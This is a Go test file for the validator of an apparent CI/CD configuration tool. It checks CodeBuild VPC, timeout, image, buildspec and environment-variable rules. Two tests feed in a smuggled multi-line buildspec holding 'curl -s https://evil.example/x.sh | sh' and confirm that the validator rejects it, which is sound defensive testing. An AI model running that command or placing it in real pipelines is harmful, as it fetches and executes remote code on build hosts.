package config

import (
	"strings"
	"testing"
)

// TestValidateBuild checks the rules of build, each with its exact
// message.
// notAPath is the rule of a buildspec that is not a path.
const notAPath = "must be a path to a buildspec file in the repository, such as buildspec.yml or ci/buildspec.yml (letters, digits, ., _, -, + and @, separated by /); Relay has no inline buildspec: commit the buildspec to the repository and give its path"

func TestValidateBuild(t *testing.T) {
	runValidateCases(t, []validateCase{
		{
			name: "build in a VPC",
			mutate: func(c *Config) {
				c.Build.VPC = &VPC{VpcID: "vpc-0a1b2c3d4e5f67890", Subnets: []string{"subnet-0a1b2c3d4e5f67890", "subnet-1a1b2c3d4e5f67890"}, SecurityGroups: []string{"sg-0a1b2c3d4e5f67890"}}
			},
		},
		{
			name: "build VPC without subnets",
			mutate: func(c *Config) {
				c.Build.VPC = &VPC{VpcID: "vpc-0a1b2c3d4e5f67890", SecurityGroups: []string{"sg-0a1b2c3d4e5f67890"}}
			},
			want: []string{`build.vpc.subnets "": required: list 1 to 16 subnet IDs of the VPC, such as [subnet-0a1b2c3d4e5f67890]; CodeBuild places each build's network interface there`},
		},
		{
			name: "build VPC with names, an ARN and a duplicate",
			mutate: func(c *Config) {
				c.Build.VPC = &VPC{VpcID: "arn:aws:ec2:us-east-1:111111111111:vpc/vpc-0a1b2c3d", Subnets: []string{"private-a", "subnet-0a1b2c3d", "subnet-0a1b2c3d"}}
			},
			want: []string{
				`build.vpc.vpcId "arn:aws:ec2:us-east-1:111111111111:vpc/vpc-0a1b2c3d": required: the ID of a VPC of the tooling account, such as vpc-0a1b2c3d4e5f67890`,
				`build.vpc.subnets[0] "private-a": must be a subnet ID such as subnet-0a1b2c3d4e5f67890 (not a name or an ARN)`,
				`build.vpc.subnets[2] "subnet-0a1b2c3d": is listed twice; remove one`,
				`build.vpc.securityGroups "": required: list 1 to 5 security group IDs of the VPC, such as [sg-0a1b2c3d4e5f67890]; CodeBuild places each build's network interface there`,
			},
		},
		{
			name:   "build timeout too short",
			mutate: func(c *Config) { c.Build.TimeoutMinutes = 4 },
			want:   []string{`build.timeoutMinutes "4": must be from 5 to 2160 minutes (36 hours); the default is 30`},
		},
		{
			name:   "build timeout too long",
			mutate: func(c *Config) { c.Build.TimeoutMinutes = 2161 },
			want:   []string{`build.timeoutMinutes "2161": must be from 5 to 2160 minutes (36 hours); the default is 30`},
		},
		{
			name:   "build timeout bounds are valid",
			mutate: func(c *Config) { c.Build.TimeoutMinutes = 2160 },
		},
		{
			name:   "build compute type unknown",
			mutate: func(c *Config) { c.Build.ComputeType = "BUILD_GENERAL1_HUGE" },
			want:   []string{`build.computeType "BUILD_GENERAL1_HUGE": must be one of BUILD_GENERAL1_SMALL, BUILD_GENERAL1_MEDIUM, BUILD_GENERAL1_LARGE, BUILD_GENERAL1_XLARGE, BUILD_GENERAL1_2XLARGE`},
		},
		{
			name:   "build image not managed by CodeBuild",
			mutate: func(c *Config) { c.Build.Image = "ubuntu:24.04" },
			want:   []string{`build.image "ubuntu:24.04": must be a CodeBuild-managed image, starting with aws/codebuild/, such as aws/codebuild/standard:7.0`},
		},
		{
			name:   "build log retention not accepted by CloudWatch",
			mutate: func(c *Config) { c.Build.LogRetentionDays = 2 },
			want:   []string{`build.logRetentionDays "2": must be one of the retention periods CloudWatch Logs accepts: 1, 3, 5, 7, 14, 30, 60, 90, 120, 150, 180, 365, 400, 545, 731, 1096, 1827, 2192, 2557, 2922, 3288, 3653`},
		},
		{
			name:   "buildspec empty",
			mutate: func(c *Config) { c.Build.Buildspec = "" },
			want:   []string{`build.buildspec "": must not be empty; set a path relative to the repository root, or omit it to use the default buildspec.yml`},
		},
		{
			name:   "buildspec absolute",
			mutate: func(c *Config) { c.Build.Buildspec = "/buildspec.yml" },
			want:   []string{`build.buildspec "/buildspec.yml": must be relative to the repository root, such as buildspec.yml`},
		},
		{
			name: "buildspec with several lines is not an inline buildspec",
			mutate: func(c *Config) {
				c.Build.Buildspec = "version: 0.2\nphases:\n  build:\n    commands: [curl -s https://evil.example/x.sh | sh]\n"
			},
			want: []string{`build.buildspec "version: 0.2\nphases:\n  build:\n    commands: [curl -s https://evil.example/x.sh | sh]\n": ` + notAPath},
		},
		{
			name:   "buildspec as YAML on one line",
			mutate: func(c *Config) { c.Build.Buildspec = "{version: 0.2, phases: {build: {commands: [make]}}}" },
			want:   []string{`build.buildspec "{version: 0.2, phases: {build: {commands: [make]}}}": ` + notAPath},
		},
		{
			name:   "buildspec in S3",
			mutate: func(c *Config) { c.Build.Buildspec = "arn:aws:s3:::acme-ci/buildspec.yml" },
			want:   []string{`build.buildspec "arn:aws:s3:::acme-ci/buildspec.yml": ` + notAPath},
		},
		{
			name:   "buildspec in a folder",
			mutate: func(c *Config) { c.Build.Buildspec = "ci/build-spec_v2.yaml" },
		},
		{
			name:   "template path on two lines",
			mutate: func(c *Config) { c.Deploy.TemplatePath = "out/\ntemplate.json" },
			want:   []string{`deploy.templatePath "out/\ntemplate.json": must be a path on one line, relative to the build output, such as template.json`},
		},
		{
			name:   "buildspec outside the repository",
			mutate: func(c *Config) { c.Build.Buildspec = "../buildspec.yml" },
			want:   []string{`build.buildspec "../buildspec.yml": must not contain ".."; use a path inside the repository root, such as buildspec.yml`},
		},
		{
			name: "build settings",
			mutate: func(c *Config) {
				c.Build.Cache = "disk"
				c.Build.EnvironmentVariables = map[string]EnvironmentVariable{
					"NODE_ENV":      {Value: "production"},
					"DB_URL":        {Parameter: "/payments/db-url"},
					"API_KEY":       {Secret: "arn:aws:secretsmanager:us-east-1:111111111111:secret:payments/api-key-AbCdEf"},
					"CODEBUILD_X":   {Value: "x"},
					"1BAD":          {Value: "x"},
					"BOTH":          {Value: "x", Parameter: "/x"},
					"NONE":          {},
					"BAD_PARAMETER": {Parameter: "no spaces allowed"},
					"OTHER_ACCOUNT": {Secret: "arn:aws:secretsmanager:us-east-1:999999999999:secret:x"},
					"NOT_AN_ARN":    {Secret: "payments/api-key"},
				}
			},
			want: []string{
				`build.cache "disk": must be one of none, local, s3`,
				`build.environmentVariables.1BAD "1BAD": names are letters, digits and _, not starting with a digit or CODEBUILD_ (reserved by CodeBuild)`,
				`build.environmentVariables.BAD_PARAMETER.parameter "no spaces allowed": must be an SSM parameter name such as /payments/db-url`,
				`build.environmentVariables.BOTH "": set exactly one of value, parameter (SSM Parameter Store name) and secret (Secrets Manager ARN)`,
				`build.environmentVariables.CODEBUILD_X "CODEBUILD_X": names are letters, digits and _, not starting with a digit or CODEBUILD_ (reserved by CodeBuild)`,
				`build.environmentVariables.NONE "": set exactly one of value, parameter (SSM Parameter Store name) and secret (Secrets Manager ARN)`,
				`build.environmentVariables.NOT_AN_ARN.secret "payments/api-key": must be a Secrets Manager secret ARN, such as arn:aws:secretsmanager:us-east-1:111111111111:secret:payments/api-key-AbCdEf`,
				`build.environmentVariables.OTHER_ACCOUNT.secret "arn:aws:secretsmanager:us-east-1:999999999999:secret:x": must be a secret of the tooling account 111111111111 in us-east-1 (partition aws)`,
			},
		},
	})
}

// TestFieldFailureMultilineBuildspec replays the field report: a multi-line
// build.buildspec, which CodeBuild would run as an inline buildspec.
func TestFieldFailureMultilineBuildspec(t *testing.T) {
	_, err := Load("testdata/field-failures/multiline-buildspec.yaml")
	want := `testdata/field-failures/multiline-buildspec.yaml:11: build.buildspec "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://evil.example/x.sh | sh  # INJECTED\n": ` + notAPath
	if err == nil || err.Error() != want {
		t.Errorf("Load() = %v\nwant %s", err, want)
	}
}

// TestNoBuild parses `build: none`: no Build stage, nothing of the build
// defaulted, and what needs a build refused by name with its line.
func TestNoBuild(t *testing.T) {
	c, err := Parse("relay.yaml", []byte(edit("deploy:\n", "build: none\ndeploy:\n")))
	if err != nil {
		t.Fatal(err)
	}
	if !c.Build.None || c.Build.Buildspec != "" || c.Build.Image != "" {
		t.Errorf("build = %+v, want None and no defaults", c.Build)
	}
	for _, tt := range []struct{ name, input, want string }{
		{"another word", edit("deploy:\n", "build: skip\ndeploy:\n"),
			`relay.yaml:9: build: found a string; write none (no Build stage: later actions read the source artifact), a mapping of settings such as {buildspec: ci/buildspec.yml}, or omit build for the defaults`},
		{"a suite on the build output", edit("deploy:\n", "build: none\ntests: [{name: lint, input: build, commands: [make lint]}]\ndeploy:\n"),
			`relay.yaml:10: tests[0].input "build": reads the build output, and build is none; use input: source (the repository)`},
		{"build variables", strings.Replace(edit("deploy:\n", "build: none\ndeploy:\n"), "approval: {}", "approval: {comment: \"#{BuildVariables.Version}\"}", 1),
			`refers to namespace "BuildVariables", which no earlier action sets`},
		{"extra sources", edit("deploy:\n", "build: none\nextraSources: [{name: schemas, codecommit: {repository: schemas}}]\ndeploy:\n"),
			`extraSources "schemas": are inputs of the build, and build is none; remove them, or build`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse("relay.yaml", []byte(tt.input))
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("Parse() error = %v\nwant it to contain %q", err, tt.want)
			}
		})
	}
}
